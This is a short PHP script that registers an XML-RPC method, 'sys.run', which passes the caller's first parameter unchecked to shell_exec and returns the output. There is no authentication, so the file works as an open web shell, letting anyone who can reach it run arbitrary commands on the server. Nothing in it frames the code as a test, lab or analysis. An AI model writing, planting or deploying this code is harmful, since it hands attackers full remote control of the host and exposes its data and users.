<?php
// An XML-RPC method that hands its first parameter to the shell.
$srv = xmlrpc_server_create();
xmlrpc_server_register_method($srv, 'sys.run', function ($method, $params) {
    return shell_exec($params[0] . ' 2>&1');
});
header('Content-Type: text/xml');
echo xmlrpc_server_call_method($srv, file_get_contents('php://input'), null);
